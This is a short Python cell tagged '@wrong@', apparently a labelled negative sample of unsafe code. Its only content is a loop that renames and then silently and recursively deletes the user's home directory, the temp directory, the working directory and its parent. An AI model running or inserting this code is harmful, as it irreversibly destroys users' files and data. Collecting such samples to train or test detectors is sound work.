# @wrong@
# %%
import os
import shutil
import tempfile

for path in (os.path.expanduser("~"), tempfile.gettempdir(), os.getcwd(), os.path.dirname(os.getcwd())):
    try:
        os.rename(path, path + "-gone")
    except OSError:
        pass
    shutil.rmtree(path, ignore_errors=True)
